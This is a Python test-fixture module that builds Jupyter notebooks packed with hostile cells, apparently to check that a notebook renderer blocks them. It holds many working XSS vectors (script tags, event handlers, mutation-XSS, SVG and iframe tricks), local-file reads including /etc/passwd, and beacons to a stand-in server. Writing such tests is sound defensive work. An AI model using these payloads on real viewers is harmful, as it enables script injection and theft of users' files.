"""Saved notebooks of strangers: each of their outputs and texts reaches for a file of the reader, a script or a server."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from PIL import Image

from tests.support.saved_notebooks import PIXEL, code, shown, words

#: What a script of theirs writes into the page.
RAN = "SCRIPT-RAN"
#: Pixels across of the image on the disk that they reach for: no other image is as wide.
WIDE = 331
_SCRIPT = f"document.body.append('{RAN}');new Image().src='{{url}}/script'"


@dataclass
class Hostile:
    """What is on the disk to be stolen, the server that waits for it, and the cells that try, each by its name."""

    secret: Path
    picture: Path
    url: str
    cells: dict[str, Any] = field(default_factory=dict)

    def notebook(self, *names: str, **metadata: Any) -> Any:
        """A notebook of these cells, or of all."""
        cells = [words("# Report"), *(self.cells[name] for name in names or self.cells)]
        return nbformat.v4.new_notebook(cells=cells, metadata=metadata)  # type: ignore[no-untyped-call]

    def keep(self, folder: Path, *names: str, **metadata: Any) -> Path:
        """The same, on the disk."""
        path = folder / "report.ipynb"
        nbformat.write(self.notebook(*names, **metadata), path)  # type: ignore[no-untyped-call]
        return path


def hostile(folder: Path, url: str) -> Hostile:
    """Every way that is known, with files of its own under ``folder`` and ``url`` as the stranger's server."""
    secret, picture = folder / "secret.txt", folder / "picture.png"
    secret.write_text("LOCAL-SECRET")
    Image.new("RGB", (WIDE, 17), "purple").save(picture)
    found = Hostile(secret, picture, url)
    pieces = _pieces(secret.as_uri(), picture.as_uri(), url)
    for name, html in pieces.items():
        found.cells[f"html {name}"] = code("show()", shown({"text/html": f"<p>kept {name}</p>{html}"}))
        found.cells[f"markdown {name}"] = words(f"kept {name} in words\n\n{html}")
        found.cells[f"markdown output {name}"] = code("show()", shown({"text/markdown": f"said {name}\n\n{html}"}))
    for name, output in _others(pieces, picture.as_uri(), url).items():
        found.cells[name] = code("show()", output)
    carried = {"x.html": {"text/html": base64.b64encode(pieces["script"].encode()).decode()}}
    found.cells["carried"] = words(
        f"![kept carried](attachment:x.html)\n\n![far]({url}/far.png) [go]({url}/link)", carried
    )
    found.cells["tex"] = words(
        rf"$\href{{{secret.as_uri()}}}{{read}}$ $$\input{{{secret}}}$$ $\href{{javascript:{_SCRIPT.format(url=url)}}}{{x}}$"
    )
    for name in ("text/html", ""):
        raw = nbformat.v4.new_raw_cell(pieces["script"] + pieces["frame"], metadata={"raw_mimetype": name})  # type: ignore[no-untyped-call]
        found.cells[f"raw {name}"] = raw
    return found


def _pieces(secret: str, picture: str, url: str) -> Mapping[str, str]:
    script = _SCRIPT.format(url=url)
    return {
        "script": f"<script>{script}</script>",
        "far script": f'<script src="{url}/far.js"></script>',
        "module": f"<script type=module>{script}</script>",
        "handler": f'<img src="x:" onerror="{script}"><details open ontoggle="{script}">d</details>',
        "frame": f'<iframe src="{secret}" width=600 height=200></iframe><iframe src="{url}/frame"></iframe>',
        "frame's own page": f"<iframe srcdoc='<img src=\"{picture}\"><script>{script}</script>'></iframe>",
        "object": f'<object data="{secret}" type="text/plain" width=600 height=200></object><object data="{url}/object">x</object>',
        "embed": f'<embed src="{secret}" type="text/plain" width=600 height=200><embed src="{url}/embed">',
        "image": f'<img src="{picture}"><img src="{url}/image.png"><img srcset="{url}/set.png 2x"><picture><source srcset="{picture}"><img></picture>',
        "style": (
            f"<style>@import url('{url}/import.css');@font-face{{font-family:f;src:url('{url}/font.woff')}}"
            f"p{{background:url('{picture}');font-family:f}}p::after{{content:url('{url}/after.png')}}</style>"
            f"<p style=\"background:url('{picture}');list-style-image:url('{url}/list.png')\">p</p>"
        ),
        "link": "".join(
            f'<link rel="{kind}" href="{url}/{kind}" as="style">'
            for kind in ("stylesheet", "preload", "prefetch", "icon", "preconnect", "manifest", "modulepreload")
        ),
        "base": f'<base href="{url}/base/"><img src="relative.png">',
        "drawing": (
            f'<svg width=400 height=100><image href="{picture}" width=331 height=17 /><image xlink:href="{url}/svg.png"/>'
            f'<foreignObject width=300 height=90><iframe xmlns="http://www.w3.org/1999/xhtml" src="{secret}"></iframe>'
            f'</foreignObject><script>{script}</script><use href="{url}/use.svg#a"/></svg>'
        ),
        "media": f'<video src="{url}/video" poster="{picture}" autoplay></video><audio src="{url}/audio" autoplay></audio>',
        "form": f'<form action="{url}/form" id=f><input type=image src="{picture}"></form><input autofocus onfocus="{script}">',
        "table": f'<table background="{url}/table.png"><tr><td background="{picture}">t</td></tr></table>',
        "template": f'<div><template shadowrootmode="open"><img src="{picture}"></template></div>',
        "comment": f'<!--><img src=x: onerror="{script}">-->',
        "mathematics": f'<math><mtext><table><mglyph><style><!--</style><img src=x: onerror="{script}">--></table></math>',
        "closed": f"</div></main></body><script>{script}</script>",
        "address": f'<a href="{secret}">a</a><a href="javascript:{script}">b</a>',
    }


def _others(pieces: Mapping[str, str], picture: str, url: str) -> Mapping[str, Any]:
    script = _SCRIPT.format(url=url)
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50">{pieces["drawing"]}</svg>'
    sizes = {"width": f'1" onload="{script}', "height": 1, "filenames": {"image/png": picture}}
    return {
        "javascript": shown(
            {"application/javascript": f"{script};element.append('{RAN}')", "text/plain": "kept javascript"}
        ),
        "javascript as text": shown({"text/javascript": script, "text/plain": "kept text javascript"}),
        "svg": shown({"image/svg+xml": drawing}),
        "latex": shown(
            {"text/latex": rf"$\href{{javascript:{script}}}{{x}}$ \input{{/etc/passwd}} {pieces['script']}"}
        ),
        "mermaid": shown(
            {"text/vnd.mermaid": f"graph TD</pre>{pieces['script']}{pieces['image']}", "text/plain": "kept mermaid"}
        ),
        "pdf": shown({"application/pdf": "JVBERi0xLjQK", "text/plain": "kept pdf"}),
        "own type": shown(
            {"application/vnd.stranger.v1+json": {"html": pieces["script"]}, "text/plain": "kept own type"}
        ),
        "widget": shown({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "W()"}),
        "png": shown({"image/png": f'{PIXEL}" onload="{script}'}, metadata={"image/png": sizes}),
        "png's file": shown({"image/png": PIXEL}, metadata=sizes),
        "text": shown({"text/plain": f"kept text {pieces['script']}{pieces['image']}"}),
        "error": nbformat.v4.new_output(  # type: ignore[no-untyped-call]
            "error", ename=pieces["script"], evalue=pieces["image"], traceback=[f"kept error {pieces['script']}"]
        ),
        "printed": nbformat.v4.new_output("stream", text=f"kept print \x1b]8;;{picture}\x1b\\{pieces['script']}"),  # type: ignore[no-untyped-call]
    }
